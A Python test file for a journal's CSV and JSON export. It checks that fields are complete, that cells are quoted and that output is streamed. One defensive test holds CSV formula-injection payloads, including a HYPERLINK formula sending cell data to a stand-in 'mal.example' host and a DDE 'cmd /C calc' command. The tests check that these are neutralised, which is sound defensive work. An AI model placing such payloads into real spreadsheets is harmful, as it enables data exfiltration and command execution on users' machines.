"""Exports: every field, and no cell that a spreadsheet computes."""

from __future__ import annotations

import csv
import io
import json
from collections.abc import Iterable, Iterator

import pytest
from hypothesis import given
from hypothesis import strategies as st
from keeping import asked, filled

from rag.database import reading
from rag.journal import erasure
from rag.journal.entry import Entry
from rag.journal.export import FORMULA, csv_lines, json_lines
from rag.journal.filters import Filter
from rag.journal.journal import Journal
from rag.journal.reading import Recorded, entries


def records(lines: Iterable[str]) -> list[dict[str, str]]:
    """A CSV file as another program reads it."""
    text = "".join(lines).removeprefix("\ufeff")
    return list(csv.DictReader(io.StringIO(text, newline=""), delimiter=";"))


def one(**fields: object) -> Recorded:
    return Recorded(7, asked(0, **fields), erased=False)


def test_json_lines_hold_every_field(kept: Journal) -> None:
    filled(kept)
    with reading(kept.engine) as connection:
        lines = list(json_lines(entries(connection, Filter())))
    first = json.loads(lines[0])
    assert len(lines) == 12
    assert set(Entry.__slots__) - {"verdicts", "spent"} <= set(first)
    assert first["question"] == asked(0).question
    assert first["at"] == "2026-01-01T08:00:00.000+00:00"
    assert first["versions"] == ["LEGIARTI1", "v0"]
    assert (first["verified"], first["prompt_tokens"]) == (2, 900)


def test_csv_holds_the_same(kept: Journal) -> None:
    filled(kept)
    with reading(kept.engine) as connection:
        found = list(entries(connection, Filter()))
    rows = records(csv_lines(found))
    shapes = [json.loads(line) for line in json_lines(found)]
    assert set(rows[0]) == set(shapes[0])
    for row, shape in zip(rows, shapes, strict=True):
        assert row["request_id"] == shape["request_id"]
        assert row["question"] == shape["question"]
        assert row["services"].split() == " ".join(shape["services"]).split()
        assert row["refused"] == ("oui" if shape["refused"] else "non")
        assert row["useful"] == {None: "", True: "oui", False: "non"}[shape["useful"]]


@pytest.mark.parametrize(
    "words",
    [
        "=HYPERLINK(\"http://mal.example/\"&A1;\"cliquez\")", "+1+cmd|' /C calc'!A0", "-2+3",
        "@SUM(1+1)", "\t=1+1", "\r=1+1",
    ],
)  # fmt: skip
@pytest.mark.parametrize("field", ["question", "who", "comment", "reason", "model", "about"])
def test_no_formula(words: str, field: str) -> None:
    [row] = records(csv_lines([one(**{field: words})]))
    assert row[field] == f"'{words}"


def test_no_formula_in_lists() -> None:
    [row] = records(csv_lines([one(services=frozenset({"=1"}), versions=("@x",))]))
    assert (row["services"], row["versions"]) == ("'=1", "'@x")


@given(st.text())
def test_any_words_stay_in_their_cell(words: str) -> None:
    words = words.replace("\0", "")
    row, after = records(csv_lines([one(question=words), one(question="après")]))
    assert row["question"].removeprefix("'") == words.removeprefix("'")
    assert not row["question"].startswith(FORMULA)
    assert after["question"] == "après"


def test_every_cell_is_quoted() -> None:
    """A separator of another country's spreadsheet does not start a cell in the middle of words."""
    lines = list(csv_lines([one(question="a,=1")]))
    assert all(line.lstrip("\ufeff").startswith('"') and '";"' in line for line in lines)
    assert lines[0].startswith("\ufeff")


def test_what_was_erased_says_so(kept: Journal) -> None:
    kept.record(asked(0))
    erasure.erase(kept, "agent0", who="operator", door="command")
    with reading(kept.engine) as connection:
        rows = records(csv_lines(entries(connection, Filter())))
    assert [row["who"] for row in rows] == ["(effacé)", "operator"]


def test_it_is_written_as_it_is_read() -> None:
    """Nothing waits for the end: an export of any size takes the memory of a few rows."""
    read: list[int] = []

    def reading_on() -> Iterator[Recorded]:
        for number in range(3):
            read.append(number)
            yield one()

    lines = csv_lines(reading_on())
    next(lines), next(lines)
    assert read == [0]
